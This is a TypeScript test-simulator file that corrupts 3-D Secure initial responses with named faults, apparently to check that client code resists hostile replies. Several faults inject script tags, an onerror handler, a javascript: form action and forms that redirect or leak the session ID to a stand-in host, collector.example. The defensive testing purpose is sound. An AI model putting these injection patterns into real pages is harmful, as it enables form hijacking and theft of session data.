import type { FaultName } from '@/simulator/faults/catalogue'
import { gatePath, renderGateForm } from '@/simulator/protocol/gate'
import type { JsonObject } from '@/simulator/protocol/reply'
import { hostileCode } from './hostile'

const foreign = 'https://collector.example/3d'

/** Changes the answer of tds_initial as the fault says; null for any other fault. */
export function spoilInitial(body: JsonObject, fault: FaultName, origin: string): JsonObject | null {
  const sessionId = String(body.session_id)
  const tokenId = String(body.token_id)
  const gate = `${origin}${gatePath}`
  const form = (action: string) => renderGateForm(action, sessionId, tokenId)
  switch (fault) {
    case 'no-html':
      return { ...body, html_content: '' }
    case 'no-post-url':
      return { ...body, post_url: '' }
    case 'neither':
      return { ...body, html_content: '', post_url: '' }
    case 'missing-pair':
      return { ...body, session_id: undefined, token_id: undefined }
    case 'html-empty-inputs':
      return { ...body, html_content: renderGateForm(gate, '', '') }
    case 'html-hostile-script':
      return { ...body, html_content: surroundWithScripts(form(gate)) }
    case 'html-foreign-host':
      return { ...body, html_content: form(foreign) }
    case 'html-http-foreign':
      return { ...body, html_content: form(foreign.replace('https:', 'http:')) }
    case 'html-javascript-action':
      return { ...body, html_content: form(`javascript:${hostileCode}`) }
    case 'html-two-forms':
      return { ...body, html_content: decoy(foreign) + form(gate) }
    case 'html-nested':
      return { ...body, html_content: `<form method="post" action="${foreign}">${form(gate)}</form>` }
    case 'hostile-post-url':
      return { ...body, html_content: '', post_url: `${foreign}?session_id=${encodeURIComponent(sessionId)}` }
    default:
      return null
  }
}

function decoy(action: string): string {
  return `<form method="post" action="${action}"><input type="hidden" name="session_id" value="x"/></form>`
}

function surroundWithScripts(form: string): string {
  const seize = `${hostileCode};document.forms[0]&&(document.forms[0].action='${foreign}')`
  return `<script>${seize}</script><img src="x" alt="" onerror="${seize}"/>${form}<script>${seize}</script>`
}
